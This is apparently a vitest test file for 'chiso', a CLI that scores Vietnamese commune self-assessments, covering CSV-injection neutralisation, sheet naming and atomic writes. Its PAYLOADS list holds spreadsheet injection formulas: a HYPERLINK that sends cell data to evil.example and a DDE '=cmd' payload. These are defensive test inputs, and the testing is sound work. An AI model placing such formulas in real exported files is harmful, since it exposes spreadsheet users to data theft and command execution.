// Issue #10, item 5: what chiso writes is safe to open and never half-written; it never
// writes over a submission, and never reads its own results back as submissions.
import { spawn } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { chmod, copyFile, mkdtemp, readFile, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { compilePack, evaluateBatch, type AssessmentInput } from '@chiso/core'
import { beforeAll, describe, expect, it } from 'vitest'
import { writeFileAtomic } from '../src/cli/atomic.js'
import { run } from '../src/cli/index.js'
import { parseCsv, writeRankingCsv, writeTemplateCsv } from '../src/csv/index.js'
import { csvSafeText } from '../src/shared/csv-cell.js'
import { sheetNamer } from '../src/shared/sheet-name.js'
import { readAssessmentWorkbook, templateLayout, writeResultWorkbook, writeTemplateWorkbook } from '../src/xlsx/index.js'
import { filledWorkbook, fixture, GOOD, loadWorkbook, testPack } from './helpers.js'

const pack = testPack()
const CLI = process.env.CHISO_CLI ?? fileURLToPath(new URL('../dist/cli/main.js', import.meta.url))

/** The payloads of the issue: each would be a live formula in a spreadsheet. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '+1+2', '@SUM(1,2)']

const unit = (unitId: string, name: string, scores: Record<string, string> = { '1.1': '1' }): AssessmentInput => ({
  unitId,
  period: '2024',
  unit: { id: unitId, name, kind: 'commune' },
  selfScores: scores,
})

async function chiso(args: string[], cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = ''
  let stderr = ''
  const code = await run(args, { cwd, stdout: { write: (s: string) => (stdout += s) }, stderr: { write: (s: string) => (stderr += s) } })
  return { code, stdout, stderr }
}

describe('CSV cells are safe to open (OWASP CSV injection)', () => {
  it('neutralises text starting with = + - @ tab or CR, and leaves numbers alone', () => {
    for (const p of [...PAYLOADS, '-2+3', '\t=1+1', '\r=1+1', '-', '+']) expect(csvSafeText(p), JSON.stringify(p)).toBe(`'${p}`)
    for (const n of ['-3', '-3,5', '-3.5', '+4', '85,34', '-1.234,5', '0', 'Xã Mẫu Đơn', '', "'=already"]) expect(csvSafeText(n), n).toBe(n)
  })

  it('the ranking CSV writes the payloads as text, numbers as numbers', () => {
    const batch = evaluateBatch(
      pack,
      PAYLOADS.map((p, k) => unit(k === 3 ? p : `xa-${k}`, p, { '1.1': String(k % 2), '2.3': '1.5' })),
    )
    const rows = parseCsv(writeRankingCsv(batch))
    // a few lines naming the pack and what in it is reconstructed, then the table
    const header = rows.findIndex((r) => r[0] === 'Hạng')
    expect(header).toBeGreaterThan(0)
    const body = rows.slice(header + 1)
    expect(body.map((r) => r[2]).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort())
    expect(body.map((r) => r[1])).toContain("'@SUM(1,2)")
    for (const r of body) {
      expect(r[0]).toMatch(/^\d+$/)
      expect(r[4]).toMatch(/^\d+,\d\d$/)
      expect(r[5]).toMatch(/^\d+,\d\d$/)
      for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
    }
  })

  it('the template CSV neutralises text from the pack too', () => {
    const json = JSON.parse(readFileSync(fixture('pack-commune.json'), 'utf8'))
    json.criteria[0].children[0].title = '=1+1'
    const text = writeTemplateCsv(compilePack(json), { period: '2024' })
    expect(parseCsv(text).find((r) => r[0] === '1.1')).toEqual(['1.1', "'=1+1", '1', '', '', '', 'tái dựng'])
  })
})

describe('sheet names every spreadsheet accepts', () => {
  it('a unit named History, forbidden characters, long names equal once cut, apostrophes and empty names', async () => {
    const long = 'Ủy ban nhân dân xã Quảng Phú Cầu huyện Ứng Hòa'
    const names = ['History', 'history', 'Xã A/B: [1]*?', long, `${long} (cũ)`, "'Phường 1'", '   ', 'Tổng hợp']
    const batch = evaluateBatch(
      pack,
      names.map((n, k) => unit(`u-${k}`, n)),
    )
    const wb = await loadWorkbook(await writeResultWorkbook(batch))
    const sheets = wb.worksheets.map((w) => w.name)
    expect(sheets).toEqual(expect.arrayContaining(['History (2)', 'history (3)', 'Xã A B   1', 'Phường 1', 'Tổng hợp (2)']))
    expect(sheets.filter((s) => s.startsWith('Ủy ban'))).toHaveLength(2)
    for (const s of sheets) {
      expect(s.length, s).toBeLessThanOrEqual(31)
      expect(s, s).not.toMatch(/[[\]:*?/\\]|^'|'$/)
      expect(s.toLowerCase(), s).not.toBe('history')
    }
    expect(new Set(sheets.map((s) => s.toLowerCase())).size).toBe(sheets.length)
  })

  it('the namer never cuts a character in two and keeps names unique after cutting', () => {
    const name = sheetNamer()
    const emoji = '😀'.repeat(20) // 40 UTF-16 units
    const a = name(emoji)
    expect(a).toBe('😀'.repeat(15))
    expect(name(emoji)).toBe(`${'😀'.repeat(13)} (2)`)
  })

  it('a template sheet name given by the caller is made acceptable, and the form reads back from it', async () => {
    const bytes = await writeTemplateWorkbook(pack, { period: '2024', unitId: 'xa-t', sheetName: 'Biểu: 2024/01' })
    const wb = await loadWorkbook(bytes)
    expect(wb.worksheets[0]!.name).toBe(templateLayout(pack, 'Biểu: 2024/01').sheet)
    expect(wb.worksheets[0]!.name).toBe('Biểu  2024 01')
    expect((await readAssessmentWorkbook(bytes, pack, { period: '2024' })).ok).toBe(true)
  })
})

describe('outputs are written whole or not at all', () => {
  it('writeFileAtomic replaces the file, keeps its mode, and leaves nothing behind on failure', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'chiso-atomic-'))
    const file = join(dir, 'ket-qua.json')
    await writeFile(file, 'old')
    await chmod(file, 0o640)
    await writeFileAtomic(file, '{"new":true}')
    expect(await readFile(file, 'utf8')).toBe('{"new":true}')
    expect((await stat(file)).mode & 0o777).toBe(0o640)
    expect(readdirSync(dir)).toEqual(['ket-qua.json'])
    // a target that is a folder: the rename fails, the temporary file is removed
    mkdirSync(join(dir, 'thu-muc'))
    writeFileSync(join(dir, 'thu-muc', 'x'), '')
    await expect(writeFileAtomic(join(dir, 'thu-muc'), 'data')).rejects.toThrow()
    expect(readdirSync(dir).sort()).toEqual(['ket-qua.json', 'thu-muc'])
  })

  describe('a chiso killed while writing (SIGKILL, child process)', () => {
    let dir: string
    beforeAll(async () => {
      if (!existsSync(CLI)) throw new Error(`${CLI} is missing: run "npm run build" first (npm test does)`)
      dir = await mkdtemp(join(tmpdir(), 'chiso-kill-'))
      await copyFile(fixture('pack-commune.json'), join(dir, 'pack.json'))
      mkdirSync(join(dir, 'nop'))
      for (let k = 0; k < 6; k++) {
        await writeFile(join(dir, 'nop', `xa-${k}.xlsx`), await filledWorkbook(pack, { unitId: `xa-${k}`, name: `Xã Số ${k}`, scores: { ...GOOD, '1.1': k % 2 } }))
      }
    })

    /** Runs chiso in a child; `until` decides when to kill it (SIGKILL) from its stderr or by polling. */
    function runUntil(args: string[], env: Record<string, string>, until: { stderr: string } | { poll: () => boolean }): Promise<{ killed: boolean; stderr: string }> {
      return new Promise((resolve) => {
        const child = spawn(process.execPath, [CLI, ...args], { cwd: dir, env: { ...process.env, ...env }, stdio: ['ignore', 'ignore', 'pipe'] })
        let stderr = ''
        let killed = false
        child.stderr.on('data', (d) => {
          stderr += d
          if ('stderr' in until && stderr.includes(until.stderr) && !killed) killed = child.kill('SIGKILL')
        })
        if ('poll' in until) {
          // a tight loop: the moment the output changes on disk, the writer is killed
          const deadline = Date.now() + 60_000
          const tick = (): void => {
            const end = Date.now() + 200
            while (Date.now() < end && child.exitCode === null) {
              if (until.poll()) {
                killed = child.kill('SIGKILL')
                return
              }
            }
            if (child.exitCode === null && Date.now() < deadline) setImmediate(tick)
          }
          setImmediate(tick)
        }
        child.on('close', () => resolve({ killed, stderr }))
      })
    }

    const score = ['score', '--pack', 'pack.json', '--year', '2024', '--in', 'nop']

    it('killed in the middle of writing the result workbook and --save: the previous files stay whole', async () => {
      await chiso([...score, '--out', 'ket-qua.xlsx', '--save', 'ban-ghi.json'], dir)
      const before = { xlsx: readFileSync(join(dir, 'ket-qua.xlsx')), json: readFileSync(join(dir, 'ban-ghi.json')) }
      for (const [args, file, key] of [
        [['--out', 'ket-qua.xlsx'], 'ket-qua.xlsx', 'xlsx'],
        [['--save', 'ban-ghi.json'], 'ban-ghi.json', 'json'],
      ] as const) {
        const r = await runUntil([...score, ...args], { CHISO_TEST_PAUSE_WRITE: '1' }, { stderr: 'chiso-test: write paused' })
        expect(r.killed, r.stderr).toBe(true)
        expect(readFileSync(join(dir, file)).equals(before[key]), file).toBe(true)
        // the half-written bytes were in a temporary file beside it, never in the output
        const tmp = readdirSync(dir).filter((f) => f.startsWith(`.${file}.`) && f.endsWith('.tmp'))
        expect(tmp, file).toHaveLength(1)
        expect(statSync(join(dir, tmp[0]!)).size).toBeLessThan(before[key].length)
      }
    })

    it('killed the moment the output changes on disk: what is there is a whole file, never a truncated one', async () => {
      const out = join(dir, 'ket-qua-lon.json')
      // a large --out (the records of a sample province) written over a previous one
      await chiso(['sample', '--year', '2024', '--kind', 'commune', '--out', 'ket-qua-lon.json'], dir)
      const before = statSync(out)
      const r = await runUntil(
        ['sample', '--year', '2024', '--kind', 'commune', '--out', 'ket-qua-lon.json'],
        {},
        {
          poll: () => {
            const s = statSync(out, { throwIfNoEntry: false })
            return s === undefined || s.ino !== before.ino || s.size !== before.size || s.mtimeMs !== before.mtimeMs
          },
        },
      )
      expect(r.killed, r.stderr).toBe(true)
      const text = readFileSync(out, 'utf8')
      expect(text.length).toBeGreaterThan(100_000)
      expect(JSON.parse(text).kind).toBe('chiso.result-records')
    })
  })
})

describe('never over a submission, never our own results as submissions', () => {
  let dir: string
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'chiso-out-'))
    await copyFile(fixture('pack-commune.json'), join(dir, 'pack.json'))
    mkdirSync(join(dir, 'nop'))
    await writeFile(join(dir, 'nop', 'xa-a.xlsx'), await filledWorkbook(pack, { unitId: 'xa-a', name: 'Xã A', scores: GOOD }))
    await writeFile(join(dir, 'nop', 'xa-b.xlsx'), await filledWorkbook(pack, { unitId: 'xa-b', name: 'Xã B', scores: { ...GOOD, '1.1': 0 } }))
  })
  const score = ['score', '--pack', 'pack.json', '--year', '2024', '--in', 'nop']

  it('--out or --save naming a submission is refused (exit 2) and the submission is untouched', async () => {
    const original = readFileSync(join(dir, 'nop', 'xa-a.xlsx'))
    for (const args of [
      ['--out', 'nop/xa-a.xlsx'],
      ['--out', './nop/../nop/xa-a.xlsx'],
      ['--save', 'nop/xa-a.xlsx'],
    ]) {
      const r = await chiso([...score, ...args], dir)
      expect(r.code, args.join(' ')).toBe(2)
      expect(r.stderr).toContain('trỏ tới tệp đầu vào "nop/xa-a.xlsx": ghi vào đó sẽ mất tệp đã nộp')
      const en = await chiso([...score, ...args, '--lang', 'en'], dir)
      expect(en.code, args.join(' ')).toBe(2)
      expect(en.stderr).toContain('names the input file "nop/xa-a.xlsx": writing there would destroy a submission')
    }
    const same = await chiso([...score, '--out', 'x.json', '--save', 'x.json'], dir)
    expect(same.code).toBe(2)
    expect(readFileSync(join(dir, 'nop', 'xa-a.xlsx')).equals(original)).toBe(true)
  })

  it('a result workbook and a ranking CSV written into the input folder are skipped next time, with a note', async () => {
    const first = await chiso([...score, '--out', 'nop/ket-qua.xlsx', '--json'], dir)
    expect(first.code, first.stderr).toBe(0)
    await chiso([...score, '--out', 'nop/xep-hang.csv'], dir)
    const again = await chiso([...score, '--out', 'nop/ket-qua.xlsx', '--json'], dir)
    expect(again.code, again.stderr).toBe(0)
    const j = JSON.parse(again.stdout)
    expect(j.skipped).toEqual(['nop/ket-qua.xlsx', 'nop/xep-hang.csv'])
    expect(j.issues).toEqual([])
    expect(j.ranking.map((u: { unitId: string }) => u.unitId)).toEqual(['xa-a', 'xa-b'])
    expect(again.stderr).toContain('Bỏ qua nop/ket-qua.xlsx: tệp kết quả do chiso ghi, không phải biểu tự đánh giá')
    const en = await chiso([...score, '--lang', 'en'], dir)
    expect(en.stderr).toContain('Skipped nop/ket-qua.xlsx: a result file written by chiso, not a submission')
    const text = await chiso([...score], dir)
    expect(text.stdout).toContain('Đã đọc 4 tệp: chấm 2, không chấm được 0, bỏ qua 2 tệp kết quả')
    // read on its own, a result workbook says what it is
    const r = await readAssessmentWorkbook(join(dir, 'nop', 'ket-qua.xlsx'), pack, { fileName: 'ket-qua.xlsx' })
    expect(!r.ok && r.issues.map((i) => [i.code, i.message.en])).toEqual([['result_file', 'This is a result file written by chiso, not a self-assessment form']])
  })

  it('an output that cannot be written is a usage error naming it (2), not an internal one', async () => {
    writeFileSync(join(dir, 'la-tep'), '')
    const r = await chiso([...score, '--out', 'la-tep/ket-qua.xlsx'], dir)
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('Không ghi được tệp la-tep/ket-qua.xlsx')
  })
})
